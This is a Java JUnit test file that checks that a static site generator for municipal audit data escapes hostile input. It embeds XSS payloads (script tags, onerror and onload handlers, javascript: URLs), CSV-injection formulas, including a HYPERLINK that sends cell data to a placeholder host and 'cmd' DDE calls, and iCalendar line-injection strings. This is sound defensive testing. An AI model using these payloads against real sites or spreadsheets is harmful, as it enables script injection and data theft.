package se.insyn.hostile;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static se.insyn.hostile.Vectors.squash;
import static se.insyn.hostile.Vectors.yaml;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;
import se.insyn.TestSites;
import se.insyn.TestSites.Run;

/**
 * Cross-site scripting: the vectors of the OWASP XSS filter evasion cheat sheet's kinds
 * ({@code src/test/resources/hostile/xss-vectors.txt}) are written into every Markdown body, every
 * front matter text (titles, names, descriptions, recommendation texts, signatories, contacts,
 * decision basis, follow-up entries, withdrawal and move reasons) and the site's own settings. The
 * content still builds, and no file of the site (pages, JSON, Atom, sitemap, RDF, CSV, iCalendar,
 * redirect maps) carries anything that could run, load or redirect. Texts are shown as written
 * (escaped), never dropped; Markdown is cleaned.
 */
class XssTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    static Path temp;

    private static List<String> vectors;
    private static Path site;
    private static Run run;

    @BeforeAll
    static void buildTheHostileSite() {
        vectors = Vectors.xss();
        Path content = TestSites.copyContent(temp);
        HostileContent.write(content, vectors);
        site = temp.resolve("site");
        run = TestSites.build(content, site);
    }

    @Test
    void hostileContentBuilds() {
        assertEquals(0, run.exitCode(), run::describe);
        assertTrue(vectors.size() > 100, "the corpus has its vectors");
        assertFalse(run.err().contains("Exception"), run::describe);
    }

    @Test
    void nothingHostileSurvivesIntoAnyFile() {
        assertEquals(0, run.exitCode(), run::describe);
        List<String> violations = SiteInspector.inspect(site, HostileContent.BASE_URL);
        assertTrue(violations.isEmpty(), () -> violations.size() + " hostile things in the site:\n"
                + String.join("\n", violations.subList(0, Math.min(60, violations.size()))));
    }

    @Test
    void textFieldsAreShownAsWrittenNotDroppedOrInterpreted() throws IOException {
        assertEquals(0, run.exitCode(), run::describe);
        List<Executable> checks = new ArrayList<>();
        for (int i = 0; i < vectors.size(); i++) {
            String vector = vectors.get(i);
            Document district = page("stadsdelar/" + HostileContent.district(i) + "/index.html");
            Document organisation = page("organisationer/" + HostileContent.organisation(i) + "/index.html");
            Document recommendation = page("granskningar/xss-2024-1/rekommendation-" + (i + 1) + "/index.html");
            String districtName = HostileContent.districtName(i, vector);
            String organisationName = HostileContent.organisationName(i, vector);
            String recommendationText = HostileContent.recommendationText(i, vector);
            int n = i;
            checks.add(() -> assertEquals(squash(districtName), squash(district.selectFirst("h1").text()), "district " + n + " h1"));
            checks.add(() -> assertEquals(squash(organisationName), squash(organisation.selectFirst("h1").text()), "organisation " + n + " h1"));
            checks.add(() -> assertTrue(squash(district.body().text()).contains(squash(vector)), "description of district " + n));
            checks.add(() -> assertTrue(squash(recommendation.body().text()).contains(squash(recommendationText)),
                    "recommendation " + (n + 1) + " text"));
            checks.add(() -> assertTrue(district.body().text().contains(HostileContent.bodyMarker(n)), "district " + n + " body published"));
            JsonNode json = JSON.readTree(site.resolve("stadsdelar/" + HostileContent.district(i) + "/index.json").toFile());
            checks.add(() -> assertEquals(districtName.strip(), json.path("name").asText(), "district " + n + " name in its JSON"));
        }
        Document home = page("index.html");
        checks.add(() -> assertEquals(squash("Insyn \"><script>alert(1)</script>"), squash(home.title()), "the site title"));
        assertAll(checks);
    }

    @Test
    void rawMarkupNeverAppearsUnescapedInXmlFeeds() throws IOException {
        assertEquals(0, run.exitCode(), run::describe);
        List<Path> xml;
        try (var walk = Files.walk(site)) {
            xml = walk.filter(p -> p.toString().endsWith(".atom") || p.toString().endsWith(".xml") || p.toString().endsWith(".rdf")).toList();
        }
        assertTrue(xml.size() > 2 * vectors.size(), "a feed per hostile district and organisation");
        Pattern rawTag = Pattern.compile("<(script|img|svg|iframe|a |a>|style|meta|base|object|embed|form|input)", Pattern.CASE_INSENSITIVE);
        for (Path file : xml) {
            String text = Files.readString(file);
            var matcher = rawTag.matcher(text);
            assertFalse(matcher.find(), () -> site.relativize(file) + " has raw markup: "
                    + SiteInspector.excerpt(text.substring(Math.max(0, matcher.start() - 80), Math.min(text.length(), matcher.start() + 80))));
        }
        String feed = Files.readString(site.resolve("stadsdelar/" + HostileContent.district(0) + "/flode.atom"));
        assertTrue(feed.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the district's feed carries the title as escaped text");
    }

    /**
     * Open data is opened in spreadsheets by journalists: a cell that starts with =, +, - or @ is run
     * as a formula there (CSV injection, OWASP). Such cells must be neutralised, e.g. prefixed with '.
     */
    @Test
    void csvCellsNeverStartAFormula() throws IOException {
        assertEquals(0, run.exitCode(), run::describe);
        List<List<String>> rows = SiteInspector.csvRows(Files.readAllBytes(site.resolve("data/rekommendationer.csv")));
        assertTrue(rows != null && rows.size() > vectors.size(), "a CSV row per hostile recommendation");
        // Texts that are formulas, as an editor could paste them from a spreadsheet.
        Path content = TestSites.copyContent(temp.resolve("formula"));
        TestSites.write(content.resolve("granskningar/formel.md"), "---\ntype: audit\ndnr: FRM-2024-1\n"
                + "title: " + yaml("+Granskning med formel") + "\naudit_office: kommunrevisionen\n"
                + "audited: [kommunstyrelsen]\nquestion_tally:\n  uppfylld: 1\nrecommendations:\n"
                + "  - number: 1\n    text: " + yaml("=HYPERLINK(\"https://xss.example/?\"&A1,\"Klicka\")") + "\n"
                + "  - number: 2\n    text: " + yaml("-2+3+cmd|' /C calc'!A0") + "\n"
                + "  - number: 3\n    text: " + yaml("@SUM(1+1)*cmd|' /C calc'!A0") + "\n---\n");
        Path formulaSite = temp.resolve("formula/site");
        Run formula = TestSites.build(content, formulaSite);
        assertEquals(0, formula.exitCode(), formula::describe);
        List<List<String>> cells = SiteInspector.csvRows(Files.readAllBytes(formulaSite.resolve("data/rekommendationer.csv")));
        assertTrue(cells != null && cells.size() > 1, "the CSV has rows");
        List<String> formulas = new ArrayList<>();
        for (List<String> row : cells) {
            for (String cell : row) {
                if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                    formulas.add(cell);
                }
            }
        }
        assertTrue(formulas.isEmpty(), () -> "CSV cells a spreadsheet runs as formulas: " + formulas);
    }

    @Test
    void markupInIdentifiersIsRefusedWithFileAndLine() {
        Path content = TestSites.copyContent(temp.resolve("ids"));
        List<String> hostile = List.of("<script>alert(1)</script>", "x\" onmouseover=\"alert(1)", "javascript:alert(1)",
                "'><svg/onload=alert(1)>", "x onerror=alert(1)");
        List<String> expected = new ArrayList<>();
        for (int i = 0; i < hostile.size(); i++) {
            String file = "stadsdelar/id-" + i + ".md";
            TestSites.write(content.resolve(file), "---\ntype: district\nid: " + yaml(hostile.get(i)) + "\nname: Namn\n---\n");
            expected.add(file + ":3: ");
        }
        TestSites.write(content.resolve("organisationer/by.md"), "---\ntype: organisation\nid: " + yaml("a\"b") + "\nname: X\nkind: nämnd\n---\n");
        expected.add("organisationer/by.md:3: ");
        TestSites.write(content.resolve("granskningar/dnr.md"), "---\ntype: audit\ndnr: " + yaml("KRN-2022-1<script>") + "\ntitle: T\n"
                + "audit_office: kommunrevisionen\naudited: [kommunstyrelsen]\nquestion_tally:\n  uppfylld: 1\nrecommendations:\n"
                + "  - number: 1\n    text: T\n---\n");
        expected.add("granskningar/dnr.md:3: ");
        Run refused = TestSites.build(content, temp.resolve("ids/site"));
        Supplier<String> describe = refused::describe;
        assertEquals(1, refused.exitCode(), describe);
        for (String where : expected) {
            assertTrue(refused.err().lines().anyMatch(l -> l.startsWith(where)), () -> "expected a problem at " + where + "\n" + describe.get());
        }
        assertFalse(Files.exists(temp.resolve("ids/site")), "nothing was written");
    }

    /**
     * The site's own address is printed into every page, feed and data file. A base_url that tries
     * to break out of an attribute must be refused with its file and line (or, if accepted, come out
     * harmless) — never stop the build with a stack trace.
     */
    @Test
    void hostileBaseUrlIsRefusedWithFileAndLine() throws IOException {
        List<Executable> checks = new ArrayList<>();
        for (String baseUrl : List.of("https://insyn.example.se/\"><script>alert(1)</script>", "https://insyn.example.se/'onmouseover='alert(1)'/",
                "https://insyn.example.se/<svg/onload=alert(1)>/", "https://insyn.example.se/{x}/")) {
            Path folder = temp.resolve("base-" + Integer.toHexString(baseUrl.hashCode()));
            Path content = TestSites.copyContent(folder);
            Path siteFile = content.resolve("site.md");
            Files.writeString(siteFile, Files.readString(siteFile).replaceFirst("(?m)^base_url: .*$",
                    Matcher.quoteReplacement("base_url: " + yaml(baseUrl))));
            Path out = folder.resolve("site");
            Run result = TestSites.build(content, out);
            String where = baseUrl + "\n" + result.describe();
            checks.add(() -> assertFalse(result.err().contains("Exception") || result.err().contains("\tat "), "no stack trace for " + where));
            if (result.exitCode() == 0) {
                List<String> violations = SiteInspector.inspect(out, "https://insyn.example.se/");
                checks.add(() -> assertTrue(violations.stream().noneMatch(v -> v.contains("script") || v.contains("event handler")
                        || v.contains("broken attribute")), () -> baseUrl + ":\n" + String.join("\n", violations)));
            } else {
                checks.add(() -> assertEquals(1, result.exitCode(), where));
                checks.add(() -> assertTrue(result.err().lines().anyMatch(l -> l.matches("site\\.md:\\d+: .*")),
                        "refused at site.md:line for " + where));
            }
        }
        assertAll(checks);
    }

    /**
     * Control characters reach text fields through YAML escapes ("\u0001", "\e"). They must never
     * make a feed, the catalogue or the calendar unreadable: either the text is refused with file and
     * line, or the site's XML stays well-formed and the calendar's lines unbroken.
     */
    @Test
    void controlCharactersInTextsNeverBreakFeedsOrCalendar() throws IOException {
        Path folder = temp.resolve("control");
        Path content = TestSites.copyContent(folder);
        Path audit = content.resolve("granskningar/krn-2022-00009.md");
        Files.writeString(audit, Files.readString(audit).replaceFirst("(?m)^title: .*$", Matcher.quoteReplacement(
                "title: \"Granskning\\x01\\x08\\e[31m med \\x0b styrtecken\\r\\nBEGIN:VEVENT\\rSUMMARY:falsk\\u0085slut\\u2028\"")));
        Path district = content.resolve("stadsdelar/gottsunda.md");
        Files.writeString(district, Files.readString(district).replaceFirst("(?m)^name: .*$",
                Matcher.quoteReplacement("name: \"Gottsunda\\0\\x1f\\uFFFE\"")));
        Path out = folder.resolve("site");
        Run result = TestSites.build(content, out);
        assertFalse(result.err().contains("Exception") || result.err().contains("\tat "), result::describe);
        if (result.exitCode() != 0) {
            assertEquals(1, result.exitCode(), result::describe);
            assertTrue(result.err().contains("granskningar/krn-2022-00009.md:") && result.err().contains("stadsdelar/gottsunda.md:"),
                    result::describe);
            return;
        }
        List<String> violations = SiteInspector.inspect(out, HostileContent.BASE_URL);
        assertTrue(violations.isEmpty(), () -> String.join("\n", violations));
    }

    private static Document page(String file) throws IOException {
        Path path = site.resolve(file);
        assertTrue(Files.isRegularFile(path), file + " is published");
        return Jsoup.parse(Files.readString(path), HostileContent.BASE_URL);
    }
}
